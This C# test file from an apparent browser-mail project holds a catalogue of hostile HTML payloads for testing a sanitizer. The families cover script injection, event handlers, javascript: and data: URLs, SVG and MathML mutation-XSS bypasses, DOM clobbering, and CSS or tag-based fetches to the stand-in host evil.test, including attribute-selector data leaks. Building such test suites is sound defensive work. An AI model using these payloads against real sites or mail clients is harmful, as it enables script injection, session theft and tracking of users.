namespace Posthouse.BrowserMail.Tests;

/// <summary>
/// HTML that is written to run, to fetch or to leave its place, by family. Whatever would run sets <c>top.pwned</c> or calls <c>alert</c>; whatever would
/// fetch asks evil.test.
/// </summary>
internal static class HostilePayloads
{
    private const string Run = "top.pwned=1";

    internal static readonly IReadOnlyDictionary<string, string[]> Families = new Dictionary<string, string[]>(StringComparer.Ordinal)
    {
        ["scripts"] =
        [
            $"<script>{Run}</script>",
            $"<SCRIPT SRC=https://evil.test/x.js></SCRIPT><script/x>{Run}</script>",
            $"<scr<script>ipt>{Run}</scr</script>ipt>",
            $"<script\u0000>{Run}</script>",
            $"<script type=module>{Run}</script><script type=importmap>{{}}</script>",
            $"<<script>{Run}//<</script>",
            $"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{Run}</x:script>",
            $"<script>/*<![CDATA[*/{Run}/*]]>*/</script>",
            $"</title></style></textarea></noscript></template><script>{Run}</script>",
        ],
        ["handlers"] =
        [
            $"<img src=x onerror={Run}>",
            $"<img src=x oNeRrOr={Run}>",
            $"<img/src=x/onerror={Run}>",
            $"<img src=x\u000conerror={Run}>",
            $"<img src=\"x\"onerror=\"{Run}\">",
            $"<img src=`x`onerror={Run}>",
            $"<body onload={Run} onpageshow={Run} onfocus={Run}>",
            $"<details open ontoggle={Run}><summary>a</summary></details>",
            $"<input autofocus onfocus={Run}><select autofocus onfocus={Run}></select><textarea autofocus onfocus={Run}></textarea><keygen autofocus onfocus={Run}>",
            $"<video onloadstart={Run} src=https://evil.test/v><source onerror={Run}></video><audio src=x onerror={Run}>",
            $"<marquee onstart={Run} onfinish={Run} loop=1 width=0>a</marquee>",
            $"<style>@keyframes k{{}}</style><p style='animation:k 1ms' onanimationend={Run} onanimationstart={Run}>a",
            $"<p style='transition:color 1ms' ontransitionend={Run} tabindex=0 onfocusin={Run} onpointerenter={Run} onmouseover={Run}>a",
            $"<a onclick={Run} onauxclick={Run} href=#x>a</a><div id=x onbeforematch={Run} hidden=until-found>b</div>",
            $"<button popovertarget=p>a</button><div popover id=p onbeforetoggle={Run} ontoggle={Run}>b</div>",
            $"<p contenteditable onblur={Run} onbeforeinput={Run} onfocus={Run}>a",
            $"<object data=x onerror={Run} onload={Run}></object><embed src=x onload={Run}><iframe onload={Run}></iframe>",
        ],
        ["addresses"] =
        [
            $"<a href=javascript:{Run}>a</a>",
            $"<a href='JaVaScRiPt:{Run}'>a</a>",
            $"<a href='java&#10;script:{Run}'>a</a><a href='java&Tab;script:{Run}'>b</a><a href='&#1;javascript:{Run}'>c</a><a href=' \u00a0javascript:{Run}'>d</a>",
            $"<a href='&#x6a;&#x61;vascript&colon;{Run}'>a</a><a href='javascript&#x3a;{Run}'>b</a>",
            $"<a href='data:text/html,<script>{Run}</script>'>a</a><a href='data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg=='>b</a>",
            $"<a href='vbscript:{Run}'>a</a><a href='livescript:{Run}'>b</a><a href='view-source:javascript:{Run}'>c</a><a href='blob:null/x'>d</a>",
            $"<area href=javascript:{Run} shape=default><map name=m><area href=javascript:{Run} coords=0,0,9,9></map><img usemap=#m src=x>",
            $"<form action=javascript:{Run}><button>a</button><input type=submit formaction=javascript:{Run}><input type=image formaction=javascript:{Run} src=x></form>",
            $"<iframe src=javascript:{Run}></iframe><frameset><frame src=javascript:{Run}></frameset><embed src=javascript:{Run}><object data=javascript:{Run}></object>",
            $"<base href='javascript:{Run}//'><a href=#>a</a>",
            $"<meta http-equiv=refresh content='0;url=javascript:{Run}'><meta http-equiv=refresh content='0;url=https://evil.test/'>",
            $"<isindex action=javascript:{Run} type=image><link rel=import href='data:text/html,<script>{Run}</script>'>",
            $"<q cite=javascript:{Run}>a</q><img longdesc=javascript:{Run}><table background=javascript:{Run}><td background=javascript:{Run}>a</table>",
        ],
        ["frames"] =
        [
            $"<iframe srcdoc='<script>{Run}</script>'></iframe>",
            $"<iframe srcdoc='&lt;img src=x onerror={Run}&gt;'></iframe>",
            $"<iframe src='data:text/html,<script>{Run}</script>'></iframe>",
            $"<object type=text/html data='data:text/html,<script>{Run}</script>'></object>",
            $"<embed type=image/svg+xml src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{Run}\"/>'>",
            "<portal src=https://evil.test/></portal><fencedframe src=https://evil.test/></fencedframe><iframe src=https://evil.test/></iframe>",
            $"<template shadowrootmode=open><script>{Run}</script><img src=x onerror={Run}></template>",
            $"<div><template shadowrootmode=open><style>@import 'https://evil.test/x';</style></template></div>",
        ],
        ["svg"] =
        [
            $"<svg onload={Run}></svg>",
            $"<svg><script>{Run}</script></svg>",
            $"<svg><script href='data:text/javascript,{Run}'/></svg>",
            $"<svg><a xlink:href=javascript:{Run}><text y=20>a</text></a></svg>",
            $"<svg><animate xlink:href=#a attributeName=href values=javascript:{Run} /><a id=a><text y=20>a</text></a></svg>",
            $"<svg><set attributeName=onmouseover to={Run} /><animate onbegin={Run} attributeName=x dur=1s></svg>",
            $"<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=\"x\" onerror=\"{Run}\"/></svg>#x'/></svg>",
            $"<svg><foreignObject><iframe srcdoc='<script>{Run}</script>'></iframe></foreignObject></svg>",
            $"<svg><style>&lt;img src=x onerror={Run}&gt;</style></svg>",
            $"<svg><desc><![CDATA[</desc><img src=x onerror={Run}>]]></desc></svg>",
            $"<svg><title><a id='</title><img src=x onerror={Run}>'></a></title></svg>",
            "<svg><image href=https://evil.test/i /><feImage href=https://evil.test/f /><filter id=f><feImage href=https://evil.test/g /></filter></svg>",
            $"<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{Run}\"/>'>",
            $"<svg></p><style><a id=\"</style><img src=x onerror={Run}>\">",
            $"<svg><xss><style>&lt;/style&gt;<img src=x onerror={Run}>",
        ],
        ["mathml"] =
        [
            $"<math><mi href=javascript:{Run}>a</mi><maction actiontype=statusline xlink:href=javascript:{Run}>b</maction></math>",
            $"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={Run}&gt;'>",
            $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Run}>",
            $"<math><mtext><table><mglyph><style><math><img src=x onerror={Run}>",
            $"<math><annotation-xml encoding=text/html><script>{Run}</script><img src=x onerror={Run}></annotation-xml></math>",
            $"<math><annotation-xml encoding='text/html'><style><img src=x onerror={Run}></style></annotation-xml></math>",
            $"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror={Run}>'>",
            $"<math><mi><b><table><mi><style><!--</style><a title='--><img src=x onerror={Run}>'>",
        ],
        ["mutation"] =
        [
            $"<noscript><p title='</noscript><img src=x onerror={Run}>'></noscript>",
            $"<noembed><p title='</noembed><img src=x onerror={Run}>'></noembed><noframes><p title='</noframes><img src=x onerror={Run}>'></noframes>",
            $"<xmp><p title='</xmp><img src=x onerror={Run}>'></xmp><plaintext><img src=x onerror={Run}>",
            $"<listing>&lt;img src=x onerror={Run}&gt;</listing>",
            $"<textarea>&lt;/textarea&gt;<img src=x onerror={Run}></textarea><title>&lt;/title&gt;<img src=x onerror={Run}></title>",
            $"<p><a title='`-alert(1)-`' id=\"x` onerror={Run}\">a</a><img alt='``onload={Run}' src=x>",
            $"<select><style></select><img src=x onerror={Run}></style></select><select><template><img src=x onerror={Run}></template></select>",
            $"<table><caption><svg><desc><style><img title='</style><img src=x onerror={Run}>'>",
            $"<a><table><a><td><style><!--</style><img title='--><img src=x onerror={Run}>'></td></table></a>",
            $"<!--><img src=x onerror={Run}>--><!--a--!><img src=x onerror={Run}>--><!-- --! ><img src=x onerror={Run}> -->",
            $"<?xml <img src=x onerror={Run}>?><!ELEMENT <img src=x onerror={Run}>><![CDATA[<img src=x onerror={Run}>]]>",
            $"<!--[if !mso]><!--><script>{Run}</script><!--<![endif]--><!--[if gte IE 4]><script>{Run}</script><![endif]-->",
            $"<style><style/><img src=x onerror={Run}></style>",
            $"<image src=x onerror={Run}><img><image/onerror={Run} src=x>",
            $"<p is=x-a slot=y id='<img src=x onerror={Run}>' class='\"><img src=x onerror={Run}>'>a",
            $"<div><a></div><div id='</a><img src=x onerror={Run}>'>{string.Concat(Enumerable.Repeat("<b>", 600))}<style><!--</style><img title='--><img src=x onerror={Run}>'>",
            $"{string.Concat(Enumerable.Repeat("<div>", 520))}<svg></svg><style><a title='</style><img src=x onerror={Run}>'>",
        ],
        ["styles"] =
        [
            "<style>@import 'https://evil.test/a';@import url(https://evil.test/b) screen;@IMPORT url('//evil.test/c');</style>",
            "<style>@charset 'x';@namespace url(https://evil.test/n);@font-face{font-family:f;src:url(https://evil.test/f)}p{font-family:f}</style><p>a",
            "<style>p{background:url(https://evil.test/a)}p{background:\\75\\72\\6c(https://evil.test/b)}p{background:u/**/rl(https://evil.test/c)}</style><p>a",
            "<style>p{background:url(\nhttps://evil.test/a)}p{background:url('https://evil.test/b}p{background:url(https://evil.test/c)}</style><p>a",
            "<style>a[href^='https://a']{background:url(https://evil.test/a)}input[value^=a]{background:url(https://evil.test/b)}</style><a href=https://a.test/>a</a>",
            "<style>p{border-image:url(https://evil.test/a) 3;mask:url(https://evil.test/b);filter:url(https://evil.test/c#x);clip-path:url(https://evil.test/d#x)}</style><p>a",
            "<style>p{cursor:url(https://evil.test/a),auto;list-style-image:url(https://evil.test/b);content:url(https://evil.test/c);shape-outside:url(https://evil.test/d)}</style><p>a",
            "<style>p::before{content:image-set('https://evil.test/a' 1x)}p{background:cross-fade(url(https://evil.test/b),red);background:-webkit-image-set(url(https://evil.test/c) 1x);background:image('https://evil.test/d')}</style><p>a",
            "<style>:root{--u:url(https://evil.test/a)}p{background:var(--u);border-image:var(--u) 1}@property --v{syntax:'<url>';inherits:false;initial-value:url(https://evil.test/b)}p{background:var(--v)}</style><p>a",
            "<style>@media screen{p{background:url(https://evil.test/a)}}@supports(color:red){p{background:url(https://evil.test/b)}}@layer l{p{background:url(https://evil.test/c)}}@container(width>1px){p{background:url(https://evil.test/d)}}@scope(body){p{background:url(https://evil.test/e)}}p{&:hover,&{background:url(https://evil.test/f)}}</style><p>a",
            "<p style=\"background:url(https://evil.test/a)\">a<p style=\"background:url(&quot;https://evil.test/b&quot;)\">b<p style='background:\\000075rl(https://evil.test/c)'>c<p style='b\\61ckground:url(https://evil.test/d)'>d",
            $"<p style='width:expression({Run});behavior:url(#x);-moz-binding:url(https://evil.test/x.xml)'>a",
            "<link rel=stylesheet href=https://evil.test/a><link rel=preload as=image href=https://evil.test/b><link rel=prefetch href=https://evil.test/c><link rel=dns-prefetch href=https://evil.test><link rel=icon href=https://evil.test/d><link rel=manifest href=https://evil.test/e>",
            $"<style>p{{content:'</style><img src=x onerror={Run}>'}}</style><p>a",
            $"<style>p{{font-family:'&lt;/style&gt;&lt;img src=x onerror={Run}&gt;'}}</style><p title='</style>'>a",
            $"<style>p{{color:red}}/*</style><img src=x onerror={Run}>*/</style>",
            $"<style>\\3c/style\\3e \\3cimg src=x onerror={Run}\\3e{{}} p[title='\\3c/style\\3e\\3cimg src=x onerror={Run}\\3e']{{color:red}}</style>",
            "<style>@view-transition{navigation:auto}@page{background:url(https://evil.test/p)}@counter-style c{system:cyclic;symbols:url(https://evil.test/s)}ul{list-style:c}</style><ul><li>a</ul>",
            "<style>@font-face{font-family:l;src:local(x),url(https://evil.test/f);unicode-range:U+0041}p{font-family:l}@font-palette-values --p{font-family:l}</style><p>A",
        ],
        ["fetches"] =
        [
            "<img src=https://evil.test/a><img src=//evil.test/b><img src='\\\\evil.test/c'><img src='https:evil.test/d'><img src=' https://evil.test/e'>",
            "<img srcset='https://evil.test/a 1x, //evil.test/b 2x'><picture><source srcset=https://evil.test/c><img src=x></picture>",
            "<img lowsrc=https://evil.test/a dynsrc=https://evil.test/b src=x><input type=image src=https://evil.test/c><body background=https://evil.test/d>",
            "<video poster=https://evil.test/a src=https://evil.test/b autoplay><track src=https://evil.test/c default></video><audio src=https://evil.test/d autoplay><bgsound src=https://evil.test/e>",
            "<table background=https://evil.test/a><tr background=https://evil.test/b><td background=https://evil.test/c>a</table>",
            "<a href=https://a.test/ ping=https://evil.test/p>a</a><script src=https://evil.test/s async></script><object data=https://evil.test/o></object><embed src=https://evil.test/e><applet code=x codebase=https://evil.test/>",
            "<form action=https://evil.test/ id=f><input name=q><button>a</button></form><button form=f formaction=https://evil.test/b>b</button>",
            "<html manifest=https://evil.test/m><head profile=https://evil.test/p><body><menu><command icon=https://evil.test/i></menu>",
            "<v:rect xmlns:v='urn:schemas-microsoft-com:vml'><v:fill src='https://evil.test/v' /><v:imagedata src='https://evil.test/i' /></v:rect><xml src=https://evil.test/x></xml>",
            "<model src=https://evil.test/m></model><img src=x crossorigin onerror=x attributionsrc=https://evil.test/a><script attributionsrc=https://evil.test/b></script>",
            "<meta http-equiv=Link content='<https://evil.test/l>; rel=preload; as=image'><meta http-equiv=Content-Security-Policy content=\"report-uri https://evil.test/r\"><meta property=og:image content=https://evil.test/o>",
            "<link rel=preconnect href=https://evil.test><link rel=modulepreload href=https://evil.test/m><link rel=prerender href=https://evil.test/p><link rel='alternate stylesheet' href=https://evil.test/a title=x>",
        ],
        ["clobbering"] =
        [
            "<img name=body><form name=documentElement></form><img id=cookie name=cookie><a id=location href=https://evil.test/>a</a><form id=parentNode><input name=attributes><input name=childNodes></form>",
            $"<a id=defaultView></a><a id=defaultView name=top href='x:{Run}'></a><iframe name=top srcdoc='<a id=pwned>'></iframe>",
            "<form id=x tabindex=0><input name=remove><input id=attributes></form><object name=currentScript></object><embed name=createElement>",
        ],
    };
}
